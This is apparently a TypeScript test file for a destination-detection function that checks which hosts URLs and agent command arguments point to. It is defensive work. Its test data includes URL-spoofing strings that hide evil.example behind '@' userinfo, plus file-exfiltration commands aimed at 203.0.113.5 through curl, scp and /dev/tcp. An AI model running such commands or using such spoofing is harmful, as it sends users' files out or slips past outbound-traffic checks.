import { destinationsIn, destinationsOfArguments } from './destinations.js';

const hostsIn = (text: string): string[] =>
  destinationsIn(text).flatMap(({ kind, value }) => (kind === 'url' ? [value] : []));

describe('The host of a URL', () => {
  it.each([
    ['a name and a password', `https://good.example:${'secret'}@evil.example/c`, ['evil.example']],
    ['a long name', `https://good.example:${'A'.repeat(300)}@evil.example/c?d=1`, ['evil.example']],
    ['a port', 'https://good.example:8443/x', ['good.example']],
    ['a question mark before a sign', 'https://good.example?mail=@evil.example', ['good.example']],
    ['a fragment before a sign', 'https://good.example#@evil.example', ['good.example']],
    ['several signs', 'https://a@b@evil.example/x', ['evil.example']],
    ['escaped slashes', String.raw`https:\/\/evil.example\/x`, ['evil.example']],
    ['a list', 'https://a.example,https://b.example/x', ['a.example', 'b.example']],
    ['punctuation behind it', 'see (https://good.example), now', ['good.example']],
    ['an address of IPv6', 'http://[2001:db8::1]:80/x', ['[2001:db8::1]']],
    ['recipients of a mail', 'mailto:a@one.example,b@two.example', ['one.example', 'two.example']],
  ])('is what programs connect to, with %s', (_what, text, hosts) => {
    expect(hostsIn(text)).toEqual(hosts);
  });

  it.each(['\\', "'", '"', '<'])('is ambiguous with %s before a sign: both hosts count', (mark) => {
    expect(hostsIn(`https://good.example${mark}@evil.example/x`)).toEqual(['good.example', 'evil.example']);
  });

  it.each([
    'curl 203.0.113.5/x -d @notes.txt',
    'scp notes.txt root@203.0.113.5:/tmp',
    'cat notes.txt > /dev/tcp/203.0.113.5/4444',
    'mysql --host=203.0.113.5',
    'http://203.0.113.5/x',
    'curl 203.0.113.5',
  ])('can be an address without a scheme, which is the same as one with a scheme: %s', (command) => {
    const { destinations } = destinationsOfArguments({ args: { command } }, true);
    expect(destinations).toContainEqual({ kind: 'url', value: '203.0.113.5' });
    expect(hostsIn('Please look at 203.0.113.5, it is slow.')).toEqual(['203.0.113.5']);
  });

  it.each([
    'pip install tool==203.0.113.5',
    'v203.0.113.5',
    'release 1.2.3.4',
    '--bind 127.0.0.1',
    'netmask 255.255.255.0',
    '120.0.6099.109',
    'releases/203.0.113.5/tool.zip',
  ])('is no version, mask or address of the machine itself: %s', (text) => {
    expect(hostsIn(text)).toEqual([]);
  });

  it('is not any value of four numbers, unless its name or its scheme says so', () => {
    const kindsOf = (args: Record<string, string>): string[] =>
      destinationsOfArguments({ args }, false).destinations.map(({ kind }) => kind);
    expect(hostsIn('curl 1.2.3.4/x, ssh root@5.6.7.8, nc 9.9.9.9:80')).toEqual(['1.2.3.4', '5.6.7.8', '9.9.9.9']);
    expect(kindsOf({ build: '203.0.113.5' })).toEqual([]);
    expect(kindsOf({ host: '203.0.113.5' })).toEqual(['url']);
    expect(kindsOf({ page: 'http://203.0.113.5/' })).toEqual(['url']);
  });

  it('is unknown in a URL that is too long, so that there may be further destinations', () => {
    const url = `https://good.example:${'A'.repeat(600)}@evil.example/c`;
    for (const embedded of [true, false])
      expect(destinationsOfArguments({ args: { x: url } }, embedded).isComplete).toBe(false);
    expect(hostsIn(url)).not.toContain('good.example');
    expect(destinationsOfArguments({ args: { x: `see ${url}` } }, false).isComplete).toBe(true);
    expect(destinationsOfArguments({ args: { x: `https://good.example/${'A'.repeat(600)}` } }, true).isComplete).toBe(
      true,
    );
  });
});
